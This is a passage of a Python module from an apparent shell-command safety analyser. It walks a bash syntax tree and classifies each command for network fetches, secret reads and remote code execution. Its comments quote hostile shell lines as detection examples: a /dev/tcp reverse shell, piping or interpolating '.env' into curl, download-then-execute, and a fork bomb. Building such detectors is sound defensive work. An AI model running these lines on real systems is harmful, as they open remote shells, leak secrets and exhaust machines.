"""From the AST to CommandFacts: every simple command that would run, in the order it runs.

The walk follows what bash would do: substitutions run before the command that uses them,
pipeline stages see where their input comes from, ``cd`` moves the working directory for the
commands after it, a variable assigned earlier resolves later, and a command that runs another
(``sudo``, ``bash -c``, ``find -exec``…) is followed into. Compound commands are walked with a
copy of the state, and what they may have changed is forgotten after them -- it is unknown.
"""

from __future__ import annotations

import base64
import binascii
import os
import re

from clearance.shellparse.classifier import (
    MAY_WRITE_ANYTHING,
    NETWORK_FILES,
    PATH_CHANGED,
    UNKNOWN_CWD,
    Classifier,
)
from clearance.shellparse.errors import ShellSyntaxError
from clearance.shellparse.expand import (
    BRACE,
    DYNAMIC,
    GLOB,
    INVALID,
    RESOLVED,
    TILDE,
    TRUNCATED,
    Env,
    expand_word,
    word_text,
)
from clearance.shellparse.facts import (
    METADATA_WRITERS,
    Nested,
    PathFact,
    RedirectFact,
    SimpleCommandFacts,
)
from clearance.shellparse.handlers.common import PLACEHOLDER, Lazy
from clearance.shellparse.knowledge import (
    BUILD_DEFINITIONS,
    COMMAND_STRING_VARIABLES,
    DANGEROUS_VARIABLES,
)
from clearance.shellparse.lexer import parse_script
from clearance.shellparse.nodes import (
    AnsiCQuoted,
    ArithCommand,
    ArithFor,
    ArithmeticExpansion,
    BraceGroup,
    Case,
    CommandSubstitution,
    Cond,
    Coproc,
    DoubleQuoted,
    For,
    FunctionDef,
    If,
    Literal,
    ParamExpansion,
    ProcessSubstitution,
    SimpleCommand,
    SingleQuoted,
    Subshell,
    While,
    Word,
)
from clearance.shellparse.paths import inside, resolve
from clearance.shellparse.resolve import Problem
from clearance.shellparse.world import (
    add_selection,
    expand_pattern,
    ground,
    mark_trees,
    printed_toplevel,
    selection_of,
    tracked_selection,
)

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Final

    from clearance.shellparse.nodes import (
        Assignment,
        Command,
        Part,
        Pipeline,
        Redirect,
        Script,
        Statement,
    )
    from clearance.shellparse.resolve import Resolver
    from clearance.vocab import Marker

#: How many times commands are unwrapped inside each other (``sudo bash -c 'env sh -c …'``).
MAX_UNWRAP: Final = 12
#: Most simple commands one analysis follows (a step budget: each costs resolution and
#: classification); past it the analysis stops with :class:`AnalysisBudget`.
MAX_COMMANDS: Final = 1024  # the corpus's largest script has 54
#: Most words (arguments) one analysis follows, over all its commands.
MAX_WORDS: Final = 8192


class AnalysisBudget(Exception):
    """The analysis spent its budget (the message says which)."""


_SHELLS: Final = frozenset(("sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish"))
#: Variables whose value the shell expands each time it uses them (PS4 before every traced
#: command): a ``$(…)`` in the value is a command that runs then.
_EXPANDED_VARIABLES: Final = frozenset(("PS1", "PS2", "PS4"))
#: Programs that run their arguments (or a file they name) as code: fed by a substitution
#: that fetched from the network, they run code from the network.
_CODE_RUNNERS: Final = _SHELLS | {"eval", "source", ".", "exec"}
#: Builtins that split what they read by ``IFS`` (a prefix ``IFS=`` reaches only them).
_SPLITTING_BUILTINS: Final = frozenset(("read", "mapfile", "readarray"))
#: Keys in ``Env.vars`` once an assignment exported a variable that runs code, or one the
#: tables do not know: every later command on the line runs with it.
ENV_CODE: Final = "__CLEARANCE_ENV_CODE__"
ENV_UNKNOWN: Final = "__CLEARANCE_ENV_UNKNOWN__"
#: ``Env.vars`` key prefixes: a variable known to hold an integer (``i=$((i+1))``, a loop over
#: numbers), one declared ``-i`` (its assignments are arithmetic), an associative array (its
#: subscripts are strings, not arithmetic).
_INT_VAR: Final = "\0int:"
_INT_ATTR: Final = "\0declare-i:"
_ASSOC: Final = "\0assoc:"
#: Names whose value bash computes itself: always a number.
_ARITH_SAFE_NAMES: Final = frozenset(
    (
        *("#", "?", "$", "!", "-", "0", "RANDOM", "SRANDOM", "SECONDS", "LINENO", "BASHPID"),
        *("PPID", "UID", "EUID", "EPOCHSECONDS", "EPOCHREALTIME", "BASH_SUBSHELL", "OPTIND"),
        *("BASH_LINENO", "BASH_ARGC"),
    )
)
_ARITH_NAME: Final = Lazy(r"(?<![\w$#.])\$?\{?([A-Za-z_]\w*)|\$\{?([0-9#?$!@*-])")
_ARITH_ASSIGNED: Final = Lazy(r"(?<![\w$])([A-Za-z_]\w*)(?:\[[^\]=]*\])?\s*=(?!=)")
_ARITH_NUMBER: Final = Lazy(r"\s*[-+]?\s*(?:0[xX][0-9a-fA-F]+|[0-9]+(?:#[0-9a-zA-Z@_]+)?)\s*")
_COND_ARITH: Final = frozenset(("-eq", "-ne", "-lt", "-le", "-gt", "-ge"))

#: A ``for`` loop over at most this many values known from the text has its body judged with
#: each of them; a longer (or unknown) list leaves the variable unknown.
_LOOP_VALUES: Final = 4
#: ``Env.vars`` key of the directory stack ``pushd`` builds (entries joined by NUL).
_DIRSTACK: Final = "\0dirstack"
_WRITE_OPS: Final = {">": "write", ">|": "write", "&>": "write", ">>": "append", "&>>": "append"}


#: The fields of a :class:`Scope` (its ``__slots__``; named here because compiled code cannot
#: read ``__slots__`` through the class).
#: No words (``Classifier.glob_words`` of a command without redirections).
_NO_WORDS: Final[frozenset[str]] = frozenset()

_SCOPE_FIELDS: Final = (
    "context",
    "depth",
    "markers",
    "redirects",
    "span",
    "stdin",
    "stdin_text",
    "via",
)


class Scope:
    """Where a command stands: labels, the wrappers it came through, inherited redirections."""

    __slots__ = _SCOPE_FIELDS

    def __init__(self) -> None:
        self.context: tuple[str, ...] = ()
        self.via: tuple[str, ...] = ()
        self.depth = 0
        self.markers: frozenset[Marker] = frozenset()
        #: (start, end, text) to report for commands of an inner text (``bash -c '…'``).
        self.span: tuple[int, int, str] | None = None
        self.redirects: tuple[Redirect, ...] = ()
        self.stdin: str | None = None
        #: The text standard input carries, when known (a here-document, ``echo … |``).
        self.stdin_text: str | None = None

    def derive(self, **changes: object) -> Scope:
        """A copy with ``changes`` (fields by name) made to it."""
        scope = self.copy()
        for name, value in changes.items():
            setattr(scope, name, value)
        return scope

    def copy(self) -> Scope:
        scope = Scope()
        scope.context = self.context
        scope.via = self.via
        scope.depth = self.depth
        scope.markers = self.markers
        scope.span = self.span
        scope.redirects = self.redirects
        scope.stdin = self.stdin
        scope.stdin_text = self.stdin_text
        return scope

    def with_context(self, label: str) -> Scope:
        return self.derive(context=(*self.context, label))

    def with_marker(self, marker: Marker) -> Scope:
        return self.derive(markers=self.markers | {marker})


class Extractor:
    """Collects ``SimpleCommandFacts`` for one parsed text."""

    def __init__(
        self,
        text: str,
        workspace: str | None,
        home: str,
        *,
        cwd: str | None = None,
        resolver: Resolver | None = None,
        fold: bool = False,
    ) -> None:
        self.text = text
        self.workspace = workspace
        self.home = home
        self.classifier = Classifier(workspace, home, cwd=cwd, fold=fold)
        self.classifier.machine = resolver is not None
        #: Reads the file system for the facts (``None``: the text alone is judged).
        self.resolver = resolver
        #: What ``$(find …)`` substitutions select, by the id of their node.
        self.selections: dict[int, list[str]] = {}
        #: Arguments of the part being emitted that are such outputs.
        self.pending_selections: dict[str, list[str]] = {}
        self.out: list[SimpleCommandFacts] = []
        #: Patterns a ``for`` loop's variable holds while its body is analysed
        #: (``for f in *.md; do cat "$f"; done``): judged as globs wherever the value is used.
        self.loop_globs: frozenset[str] = frozenset()
        self.made = 0
        self.words = 0
        self.functions: set[str] = set()
        #: Functions whose body changes directory (``f() { cd /x; }``).
        self.moving_functions: set[str] = set()
        #: Files a network command wrote earlier on the line (``curl -o x.sh … && sh x.sh``).
        self.downloaded: set[str] = set()
        #: Build definitions written earlier on the line (``echo … > Makefile && make``).
        self.rewritten_builds: set[str] = set()
        #: The output of command substitutions whose output is known text (``$(echo rm)``),
        #: by the id of their node.
        self.outputs: dict[int, str] = {}
        #: ``echo``/``printf`` parts with words the shell expanded as patterns, by the part's
        #: id: their words as printed (the matches on the machine), ``None`` when not known.
        self.printed: dict[int, list[str] | None] = {}

    # --- structure -----------------------------------------------------------------------

    def script(self, script: Script, env: Env, scope: Scope) -> None:
        self.body(script.statements, env, scope)
        # a script read from the machine is what it ran only if nothing on the whole line
        # (a later part run again by a loop, the script itself) may have written it
        self.classifier.settle_scripts()

    def body(self, statements: list[Statement], env: Env, scope: Scope) -> None:
        for statement in statements:
            inner = scope.with_marker("background") if statement.background else scope
            for pipeline in statement.and_or.pipelines:
                self.pipeline(pipeline, env, inner)

    def pipeline(self, pipeline: Pipeline, env: Env, scope: Scope) -> str | None:
        """Walk a pipeline; return what it writes when that is known text."""
        commands = pipeline.commands
        if len(commands) == 1:
            start = len(self.out)
            cwd = env.cwd
            self.command(commands[0], env, scope)
            produced = self.out[start:]
            output = _static_output(produced, scope.stdin_text, self.printed)
            if output is None and self.resolver is not None and len(produced) == 1:
                # a fact of this machine: ``cd "$(git rev-parse --show-toplevel)"``
                output = printed_toplevel(produced[0], cwd, self.home, self.text)
            return output
        stdin_text: str | None = scope.stdin_text
        upstream_network = upstream_everything = upstream_secret = False
        selected: list[str] | None = None
        for k, command in enumerate(commands):
            stage = scope.with_context("pipeline")
            if k:
                stage = stage.derive(stdin="pipe", stdin_text=stdin_text)
            start = len(self.out)
            self.command(command, env.copy(), stage)
            produced = self.out[start:]
            if k and upstream_network:
                for fact in produced:
                    if "stdin_code" in fact.markers:
                        fact.classes.add("remote_code_exec")
            if k and upstream_everything:
                # ``find . -type f | xargs sed -i …``: every file of the workspace
                for fact in produced:
                    if _destroys_items(fact):
                        fact.markers.add("workspace_wide")
            if k and upstream_secret:
                # ``cat .env | curl -d @- https://…``: what the network part reads is sent
                for fact in produced:
                    if fact.stdin == "pipe":
                        sends_secret(fact)
            upstream_network = upstream_network or any("network" in f.classes for f in produced)
            upstream_secret = upstream_secret or any("secret_read" in f.classes for f in produced)
            upstream_everything = upstream_everything or any(
                self._lists_everything(f) for f in produced
            )
            stdin_text = _static_output(produced, stdin_text, self.printed)
            if k and selected is not None:
                self._read_selection(produced, selected)
            if selected is None and self.resolver is not None:
                self._remember_selection(-1, produced, env)
                selected = self.selections.pop(-1, None)
        return stdin_text

    def _matched_words(self, argv: list[str], flags: list[int], env: Env) -> list[str] | None:
        """``argv`` with each pattern replaced by what it matches on the machine, sorted, as
        bash does (a pattern that matches nothing stays as written); ``None`` without the
        machine, or where a pattern's matches are not known."""
        resolver = self.resolver
        if resolver is None:
            return None
        out = argv[:1]
        for word, flag in zip(argv[1:], flags[1:], strict=True):
            if not flag & GLOB:
                out.append(word)
                continue
            pattern = resolve(word, env.cwd, self.home)
            if flag & DYNAMIC or pattern is None or env.cwd is None:
                return None
            try:
                matches = expand_pattern(pattern, self.classifier, resolver)
            except Problem:
                return None
            if not matches:
                out.append(word)
            elif word.startswith("/"):
                out.extend(matches)
            else:
                out.extend(os.path.relpath(m, env.cwd) for m in matches)
        return out

    def _read_selection(self, produced: list[SimpleCommandFacts], patterns: list[str]) -> None:
        """``find … | xargs cat``: what xargs hands its command is what find selected."""
        assert self.resolver is not None
        for fact in produced:
            if any(p.path == PLACEHOLDER for p in fact.paths):
                add_selection(fact, PLACEHOLDER, patterns, self.classifier, self.resolver)

    def command(self, command: Command, env: Env, scope: Scope) -> None:
        if isinstance(command, SimpleCommand):
            self.simple(command, env, scope)
            return
        inner = scope
        if command.redirects:
            inner = self._inherit_redirects(command.redirects, env, scope)
        if isinstance(command, BraceGroup):
            self.body(command.body, env, inner)
        elif isinstance(command, Subshell):
            self.body(command.body, env.copy(), inner.with_context("subshell"))
        elif isinstance(command, FunctionDef):
            self.functions.add(command.name)
            body = inner.with_context(f"function:{command.name}").with_marker("function_body")
            local = env.copy()
            self.command(command.body, local, body)
            if local.cwd != env.cwd:
                # calling it moves the caller: where to is known only when it runs
                self.moving_functions.add(command.name)
        elif isinstance(command, Coproc):
            self.command(command.command, env.copy(), inner.with_marker("background"))
        elif isinstance(command, Cond):
            self._cond(command, env, inner)
        elif isinstance(command, ArithCommand):
            self._arith_command(command.arith, "((", env, inner)
        else:
            self._compound(command, env, inner)

    def _compound(self, command: Command, env: Env, scope: Scope) -> None:
        """if / while / until / for / case: walk every branch, then forget their changes."""
        before = env.copy()
        local = env.copy()
        if isinstance(command, If):
            for condition, body in command.branches:
                self.body(condition, local, scope.with_context("condition"))
                self.body(body, local, scope.with_context("branch"))
            if command.else_body is not None:
                self.body(command.else_body, local, scope.with_context("branch"))
        elif isinstance(command, While):
            self.body(command.condition, local, scope.with_context("condition"))
            self.body(command.body, local, scope.with_context("loop"))
        elif isinstance(command, For):
            numbers = command.items is not None
            values: list[tuple[str, bool]] | None = [] if command.items is not None else None
            for word in command.items or ():
                self.word(word, local, scope)
                listed = self._listing(word, local)
                if listed is not None and values is not None:
                    values.append((listed, True))
                    numbers = False
                    continue
                fields, flag = expand_word(word, local)
                numbers = numbers and not flag & (DYNAMIC | GLOB)
                numbers = numbers and all(_ARITH_NUMBER.rx.fullmatch(f) for f in fields)
                if values is not None and not flag & DYNAMIC:
                    values.extend((f, bool(flag & GLOB)) for f in fields)
                else:
                    values = None
            local.vars.pop(command.variable, None)
            local.vars.pop(_INT_VAR + command.variable, None)
            if numbers:
                local.vars[_INT_VAR + command.variable] = "1"
            if values and len(values) <= _LOOP_VALUES and not numbers:
                # a few values known from the text: the body is judged with each of them (a
                # pattern stays a pattern: ``for f in .env*`` reads what ``.env*`` matches)
                outer = self.loop_globs
                for value, is_glob in values:
                    local.vars[command.variable] = value
                    self.loop_globs = outer | {value} if is_glob else outer
                    self.body(command.body, local, scope.with_context("loop"))
                self.loop_globs = outer
            else:
                self.body(command.body, local, scope.with_context("loop"))
        elif isinstance(command, ArithFor):
            self._arith_command(command.header, "for ((", local, scope)
            self.body(command.body, local, scope.with_context("loop"))
        elif isinstance(command, Case):
            self.word(command.subject, local, scope)
            for item in command.items:
                for pattern in item.patterns:
                    self.word(pattern, local, scope)
                self.body(item.body, local, scope.with_context("branch"))
        _forget_changes(env, before, local)

    def _listing(self, word: Word, env: Env) -> str | None:
        """``for f in $(ls)``: the names ``ls`` prints are those ``*`` matches -- unless one
        would split or expand again (a blank, a newline or a glob character in a name: ``x
        .env`` would give ``.env``). ``*`` then, else ``None`` (the values stay unknown)."""
        parts = word.parts
        if self.resolver is None or env.cwd is None or len(parts) != 1:
            return None
        part = parts[0]
        if not isinstance(part, CommandSubstitution):
            return None
        inner = part.text.strip("`") if part.backtick else part.text[2:-1]
        if inner.split() not in (["ls"], ["ls", "-1"]):
            return None
        try:
            names = self.resolver.expand(env.cwd.rstrip("/") + "/*")
        except Problem:
            return None
        if any(_SPLITS_OR_GLOBS.search(n.rsplit("/", 1)[-1]) for n in names):
            return None
        return "*"

    def _inherit_redirects(self, redirects: list[Redirect], env: Env, scope: Scope) -> Scope:
        for redirect in redirects:
            if redirect.target is not None:
                self.word(redirect.target, env, scope)
        stdin, stdin_text = _stdin_of(redirects, env, scope.stdin, scope.stdin_text)
        return scope.derive(
            redirects=scope.redirects + tuple(redirects), stdin=stdin, stdin_text=stdin_text
        )

    # --- words: the commands inside them run first -----------------------------------------

    def word(self, word: Word | None, env: Env, scope: Scope) -> None:
        if word is not None:
            self.parts(word.parts, env, scope, word)

    def parts(self, parts: list[Part], env: Env, scope: Scope, word: Word | None) -> None:
        for part in parts:
            if isinstance(part, CommandSubstitution):
                self._substitution(part, env, scope, word, "substitution")
            elif isinstance(part, ProcessSubstitution):
                self._substitution(part, env, scope, word, "process_substitution")
            elif isinstance(part, DoubleQuoted):
                self.parts(part.parts, env, scope, word)
            elif isinstance(part, ParamExpansion):
                if part.arg is not None:
                    self.parts(part.arg.parts, env, scope, word)
                if part.subscript is not None and part.name not in _assoc_arrays(env):
                    self._arith(part.subscript, env, scope, word)
                self._evaluated_parameter(part, env, scope, word)
            elif isinstance(part, ArithmeticExpansion):
                self._arith(part, env, scope, word)

    def _arith(
        self,
        arith: ArithmeticExpansion,
        env: Env,
        scope: Scope,
        word: Word | None,
        report: bool = True,
    ) -> bool:
        """Walk an arithmetic expression: its substitutions run, and every variable it names
        has its value evaluated as an expression in turn (``x='a[$(id)]'; echo $((x))`` runs
        ``id``). A value known statically is followed; ``True`` when one is not known --
        reported as a ``dynamic_arithmetic`` part unless the caller marks its own part."""
        for sub in arith.substitutions:
            self._substitution(sub, env, scope, word, "substitution")
        expression = arith.expression
        for sub in arith.substitutions:
            expression = expression.replace(sub.text, "0")
        unknown = self._arith_names(expression, env, scope, word)
        if unknown and report:
            self._report_arith(arith.text, scope, word)
        return unknown

    def _arith_names(self, expression: str, env: Env, scope: Scope, word: Word | None) -> bool:
        assigned = {m.group(1) for m in _ARITH_ASSIGNED.rx.finditer(expression)}
        unknown = False
        for m in _ARITH_NAME.rx.finditer(expression):
            name = m.group(1) or m.group(2)
            if name in assigned or name in _ARITH_SAFE_NAMES or (_INT_VAR + name) in env.vars:
                continue
            value = env.vars.get(name)
            opaque = value is None or name.isdigit() or name in "@*"
            if opaque or self._arith_text(value or "", env, scope, word):
                unknown = True
        for name in assigned:
            env.vars[_INT_VAR + name] = "1"
        return unknown

    def _arith_text(self, text: str, env: Env, scope: Scope, word: Word | None) -> bool:
        """Evaluate ``text`` as bash would an arithmetic expression: a number is harmless,
        anything else is followed as ``$((text))``. ``True`` when that cannot be done."""
        if not text.strip() or _ARITH_NUMBER.rx.fullmatch(text):
            return False
        if scope.depth + 1 > MAX_UNWRAP:
            return True
        probe = self._new_fact([], None, scope, word)
        self._nested(probe, Nested("arithmetic", shell=": $((" + text + "))"), env, scope)
        return "depth_limit" in probe.markers

    def _subscript_text(self, name: str, env: Env, scope: Scope, word: Word | None) -> bool:
        """A variable name that may carry a subscript (``printf -v 'a[$(id)]'``, ``[[ -v …
        ]]``, a nameref): the subscript is evaluated. ``True`` when it cannot be followed."""
        base, bracket, rest = name.partition("[")
        if not bracket or base in _assoc_arrays(env):
            return False
        subscript = rest[:-1] if rest.endswith("]") else rest
        if subscript in ("@", "*"):
            return False
        return self._arith_text(subscript, env, scope, word)

    def _report_arith(self, text: str, scope: Scope, word: Word | None) -> None:
        fact = self._new_fact(["$((", text, "))"], None, scope, word)
        fact.program = fact.program_raw = "$(("
        fact.classes.add("read_only")
        fact.markers.add("dynamic_arithmetic")
        self.out.append(fact)

    def _evaluated_parameter(
        self, part: ParamExpansion, env: Env, scope: Scope, word: Word | None
    ) -> None:
        """Expansions that evaluate a variable's value: ``${!x}`` (a name, maybe with a
        subscript), ``${s:OFFSET:LENGTH}`` (arithmetic), ``${x@P}`` (prompt expansion, which
        runs the ``$(…)`` in it)."""
        name = part.name
        value = env.vars.get(name) if not name.isdigit() else None
        arg = part.arg
        unknown = False
        if part.indirect and part.op is None and part.subscript is None and not part.length:
            if value is None:
                unknown = name not in _ARITH_SAFE_NAMES
            elif "[" in value:
                unknown = self._subscript_text(value, env, scope, word)
        elif part.op == ":" and arg is not None:
            text, flag = word_text(arg, env)
            if flag & DYNAMIC:
                unknown = True
            else:
                for piece in text.split(":"):
                    unknown = self._arith_text(piece, env, scope, word) or unknown
        elif part.op == "@" and arg is not None and arg.text == "P":
            if value is None:
                unknown = True
            elif "$" in value or "`" in value:
                quoted = '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
                probe = self._new_fact([], None, scope, word)
                self._nested(probe, Nested("${x@P}", shell=": " + quoted), env, scope)
                unknown = "depth_limit" in probe.markers
        if unknown:
            self._report_arith(part.text, scope, word)

    def _substitution(
        self,
        part: CommandSubstitution | ProcessSubstitution,
        env: Env,
        scope: Scope,
        word: Word | None,
        label: str,
    ) -> None:
        inner = scope.with_context(label).derive(stdin=None, stdin_text=None, redirects=())
        body = part.body
        if body is not None and body.origin is not None and word is not None:
            inner = inner.derive(span=scope.span or (word.start, word.end, word.text))
        if body is None:
            error = part.error if isinstance(part, CommandSubstitution) else None
            fact = self._new_fact([], None, inner, word)
            fact.markers.add("parse_error")
            fact.classes.add("unknown")
            fact.text = part.text
            if error:
                fact.context = [*fact.context, f"error: {error}"]
            self.out.append(fact)
            return
        statements = body.statements
        if (
            isinstance(part, CommandSubstitution)
            and len(statements) == 1
            and not statements[0].background
            and len(statements[0].and_or.pipelines) == 1
        ):
            start = len(self.out)
            output = self.pipeline(statements[0].and_or.pipelines[0], env.copy(), inner)
            if output is not None:
                self.outputs[id(part)] = output
            else:
                self._remember_selection(id(part), self.out[start:], env)
            return
        self.body(statements, env.copy(), inner)

    def _remember_selection(self, key: int, produced: list[SimpleCommandFacts], env: Env) -> None:
        """A substitution (or a pipeline stage) that is a ``find`` prints the files it
        selects: who reads its output reads those."""
        finds = [f for f in produced if f.program == "find" and not f.via]
        if len(finds) == 1 and not any(f.via for f in produced[1:]):
            patterns = selection_of(finds[0], env.cwd, self.home)
            if patterns:
                self.selections[key] = patterns
        elif len(produced) == 1 and produced[0].program == "git" and not produced[0].via:
            patterns = _ls_files_selection(produced[0], env.cwd)
            git = produced[0]
            if (
                not patterns
                and self._lists_everything(git)
                and set(git.argv[2:]) <= _LS_FILES_PLAIN
                and not any(p.source == "cwd" for p in git.paths)
            ):
                # every tracked file: the index says which, and which of them are secrets
                root = self.workspace
                if root is not None and env.cwd is not None and self.resolver is not None:
                    patterns = tracked_selection(
                        root, env.cwd, self.home, self.classifier.fold, self.resolver
                    )
            if patterns:
                self.selections[key] = patterns

    def _selected_words(self, words: list[Word]) -> dict[str, list[str]]:
        """Arguments that are the output of a ``$(find …)``, with what it selects."""
        out: dict[str, list[str]] = {}
        for word in words:
            parts = word.parts
            if len(parts) == 1 and isinstance(parts[0], DoubleQuoted):
                parts = parts[0].parts
            if len(parts) == 1 and isinstance(parts[0], CommandSubstitution):
                found = self.selections.get(id(parts[0]))
                if found is not None:
                    out[parts[0].text] = found
        return out

    def _static_word(self, word: Word) -> tuple[list[str], int] | None:
        """The fields of a word that is one command substitution with known output
        (``$(echo rm)``, ``"$(printf .env)"``): bash strips the trailing newlines and, when
        unquoted, splits the rest at blanks. Quoted whole, the substitution may be followed by
        quoted literal text (``"$(git rev-parse --show-toplevel)/src"``)."""
        parts = word.parts
        quoted = False
        if len(parts) == 1 and isinstance(parts[0], DoubleQuoted):
            parts = parts[0].parts
            quoted = True
        tail = ""
        if quoted and len(parts) > 1 and all(isinstance(p, Literal) for p in parts[1:]):
            tail = "".join(p.text for p in parts[1:] if isinstance(p, Literal))
            parts = parts[:1]
        if len(parts) != 1 or not isinstance(parts[0], CommandSubstitution):
            return None
        output = self.outputs.get(id(parts[0]))
        if output is None:
            return None
        text = output.rstrip("\n")
        if quoted:
            return [text + tail], RESOLVED
        flag = RESOLVED | (GLOB if any(c in text for c in "*?[") else 0)
        return text.split(), flag

    def _cond(self, command: Cond, env: Env, scope: Scope) -> None:
        argv = ["[["]
        flags = [0]
        words: list[Word | None] = [None]
        for item in command.items:
            if isinstance(item, str):
                argv.append(item)
                flags.append(0)
                words.append(None)
            else:
                self.word(item, env, scope)
                text, flag = word_text(item, env)
                argv.append(text)
                flags.append(flag)
                words.append(item)
        argv.append("]]")
        flags.append(0)
        fact = self._new_fact(argv, None, scope, None)
        fact.program = fact.program_raw = "[["
        fact.classes.add("test")
        _flag_markers(fact, flags)
        # ``-eq``… evaluate both operands as arithmetic; ``-v`` evaluates a subscript
        unknown = False
        for k in range(1, len(argv) - 1):
            if flags[k] or (argv[k] not in _COND_ARITH and argv[k] != "-v"):
                continue
            operands = [k + 1] if argv[k] == "-v" else [k - 1, k + 1]
            for j in operands:
                if j <= 0 or j >= len(argv) - 1:
                    continue
                word = words[j]
                if flags[j] & DYNAMIC:
                    safe = word is not None and _numeric_word(word, env)
                    unknown = unknown or not safe
                elif argv[k] == "-v":
                    unknown = self._subscript_text(argv[j], env, scope, None) or unknown
                else:
                    unknown = self._arith_text(argv[j], env, scope, None) or unknown
        if unknown:
            fact.markers.add("dynamic_arithmetic")
        self.out.append(fact)

    def _arith_command(self, arith: ArithmeticExpansion, name: str, env: Env, scope: Scope) -> None:
        unknown = self._arith(arith, env, scope, None, report=False)
        fact = self._new_fact([name, arith.expression, "))"], None, scope, None)
        fact.program = fact.program_raw = name
        fact.classes.add("test")
        if arith.substitutions or arith.parameters:
            fact.markers.add("dynamic_argument")
        if unknown:
            fact.markers.add("dynamic_arithmetic")
        self.out.append(fact)

    # --- simple commands -----------------------------------------------------------------

    def _new_fact(
        self, argv: list[str], command: SimpleCommand | None, scope: Scope, word: Word | None
    ) -> SimpleCommandFacts:
        if scope.span is not None:
            start, end, text = scope.span
        elif command is not None:
            start, end = command.start, command.end
            text = self.text[start:end]
        elif word is not None:
            start, end, text = word.start, word.end, word.text
        else:
            start, end, text = 0, len(self.text), self.text
        self.made += 1
        if self.made > MAX_COMMANDS:
            raise AnalysisBudget(f"more than {MAX_COMMANDS} commands: the analysis stops there")
        fact = SimpleCommandFacts(argv, text, start, end)
        fact.via = list(scope.via)
        fact.context = list(scope.context)
        fact.depth = scope.depth
        fact.markers.update(scope.markers)
        return fact

    def simple(self, command: SimpleCommand, env: Env, scope: Scope) -> None:
        for assignment in command.assignments:
            self._assignment_words(assignment, env, scope)
        # Substitutions run first; remember whether one fetched from the network, and whether
        # it fed the program's name (``$(curl …)``) or its arguments.
        fetched_program = fetched_args = secret_args = False
        out = self.out
        for k, word in enumerate(command.words):
            start = len(out)
            self.word(word, env, scope)
            if len(out) == start:
                continue  # nothing ran inside it (no substitution)
            if any("network" in f.classes for f in out[start:]):
                fetched_program = fetched_program or k == 0
                fetched_args = True
            if k and any("secret_read" in f.classes for f in out[start:]):
                secret_args = True  # ``curl "https://x/?q=$(cat .env)"``
        for redirect in command.redirects:
            start = len(out)
            self.word(redirect.target, env, scope)
            if redirect.heredoc is not None:
                hd_scope = scope.derive(span=scope.span or (redirect.start, redirect.end, ""))
                self.parts(redirect.heredoc.parts, env, hd_scope, None)
            if redirect.fd in (None, "0") and redirect.op in ("<", "<<<", "<<", "<<-"):
                fetched_args = fetched_args or any("network" in f.classes for f in out[start:])

        argv: list[str] = []
        flags: list[int] = []
        # After ``IFS=…`` the fields a variable splits into are not those the analysis
        # would compute: a variable's value is then as unknown as the variable.
        unsplit = DYNAMIC if "IFS" in env.vars else 0
        self.words += len(command.words)
        if self.words > MAX_WORDS:
            raise AnalysisBudget(f"more than {MAX_WORDS} words: the analysis stops there")
        for word in command.words:
            static = self._static_word(word)
            fields, flag = static if static is not None else expand_word(word, env)
            if flag & RESOLVED:
                flag |= unsplit
            if len(fields) == 1:  # (the common word: one field, no list made for its flag)
                argv.append(fields[0])
                flags.append(flag)
            else:
                argv.extend(fields)
                flags.extend([flag] * len(fields))

        if argv and not flags[0] & DYNAMIC and argv[0] in self.functions:
            if f"function:{argv[0]}" in scope.context:
                # a function calling itself: unbounded processes (``:(){ :|:& };:``)
                fact = self._new_fact(argv, command, scope, None)
                fact.program = fact.program_raw = argv[0]
                fact.classes.add("process_control")
                self.out.append(fact)
            if argv[0] in self.moving_functions:
                env.cwd = None
            return  # a call of a function defined above: its body was analysed there

        fact = self._new_fact(argv, command, scope, None)
        if env.cwd is None:
            fact.markers.add("unknown_cwd")
        if not command.words:
            self._statement_assignments(command.assignments, env, fact, scope)
            if not command.redirects:
                if "dynamic_arithmetic" in fact.markers:
                    fact.classes.add("read_only")  # the assignment itself runs what it evaluates
                    self.out.append(fact)
                return
        else:
            program = argv[0] if argv and not flags[0] & DYNAMIC else None
            self._prefix_assignments(command.assignments, env, fact, scope, program)
        redirects = (*scope.redirects, *command.redirects)
        stdin, stdin_text = _stdin_of(command.redirects, env, scope.stdin, scope.stdin_text)
        fact.stdin = stdin
        fact.stdin_text = stdin_text
        self.classifier.glob_words = (
            frozenset(
                text
                for r in redirects
                if r.target is not None
                for text, flag in [word_text(r.target, env)]
                if flag & GLOB and not flag & DYNAMIC
            )
            if redirects
            else _NO_WORDS
        )
        self._redirect_facts(fact, redirects, env)
        if not argv:
            fact.classes.add("write" if fact.paths else "read_only")
            self.out.append(fact)
            self._ground(fact, env)
            return
        self.pending_selections = self._selected_words(command.words) if self.selections else {}
        self.emit(fact, argv, flags, env, scope, stdin_text)
        if fact.program in ("echo", "printf") and any(f & GLOB for f in flags[1:]):
            self.printed[id(fact)] = self._matched_words(argv, flags, env)
        if _prints_environment(fact, command, env):
            fact.classes.add("secret_read")
        runs_code = (
            fact.program in _CODE_RUNNERS
            or "code_exec" in fact.classes
            or "stdin_code" in fact.markers
        )
        connected = any(
            r.target is not None and r.target.startswith(NETWORK_FILES) for r in fact.redirects
        )
        if fetched_program or ((fetched_args or connected) and runs_code):
            # code from the network: a fetch feeding it, or a shell wired to a socket
            # (``bash -i >& /dev/tcp/host/port 0>&1``)
            fact.classes.update(("code_exec", "remote_code_exec"))
        _builtin_effects(fact, argv, flags, env, env.home)
        if secret_args:
            sends_secret(fact)

    def emit(
        self,
        fact: SimpleCommandFacts,
        argv: list[str],
        flags: list[int],
        env: Env,
        scope: Scope,
        stdin_text: str | None,
        module: bool = False,
    ) -> None:
        """Classify ``fact``, record it, then analyse every command it runs in turn."""
        _flag_markers(fact, flags)
        classifier = self.classifier
        globbed = [a for a, f in zip(argv, flags, strict=False) if f & GLOB and not f & DYNAMIC]
        if globbed or self.loop_globs:  # (most commands add none: no new set each time)
            classifier.glob_words = classifier.glob_words | self.loop_globs | frozenset(globbed)
        classifier.cwd = env.cwd
        nested = classifier.classify(fact, argv, flags, env, module)
        if not module and fact.program in _BUILTIN_SEMANTICS and not flags[0] & DYNAMIC:
            self._builtin_semantics(fact, argv, flags, env, scope, nested)
        if fact.program == "shopt" and len(argv) > 2 and argv[1] in ("-s", "-u"):
            change = set(argv[2:]) & {"globstar", "dotglob", "nocaseglob", "extglob"}
            if argv[1] == "-s":
                classifier.shell_options |= change
            else:
                classifier.shell_options -= change
        start = len(self.out)
        self.out.append(fact)
        self._ground(fact, env)
